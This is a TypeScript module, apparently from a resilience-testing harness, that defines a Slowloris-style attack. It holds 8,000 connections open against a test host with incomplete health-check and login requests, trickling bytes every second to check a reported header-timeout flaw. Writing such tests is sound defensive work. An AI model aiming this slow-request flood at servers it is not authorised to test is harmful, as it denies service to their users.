import type { Attack } from '../attack';
import { gather, readAnswer } from '../means/crowd';

/** Half of the requests never end their headers, half never end their body. */
const BEGINNINGS = [
  'GET /healthz HTTP/1.1\r\nHost: loa\r\n',
  'POST /api/v1/auth/login HTTP/1.1\r\nHost: loa\r\nContent-Type: application/json\r\nContent-Length: 9999\r\n\r\n{',
] as const;
const DROPS = ['X-A: b\r\n', ' '] as const;

/** Requests that arrive a few bytes at a time, as Slowloris sends them. */
export const headerDribble: Attack = {
  name: 'header-dribble',
  finding: '14: the header limit of 10 s acts after 34 s',
  addresses: 100,
  run: (context, signal) =>
    gather(
      context,
      {
        size: 8_000,
        perSec: 500,
        greet: (socket, index) => {
          readAnswer(socket, context.tally);
          socket.write(BEGINNINGS[index % 2]!);
        },
        prod: { everyMs: 1_000, act: (socket, index) => void socket.write(DROPS[index % 2]!) },
      },
      signal,
    ),
};
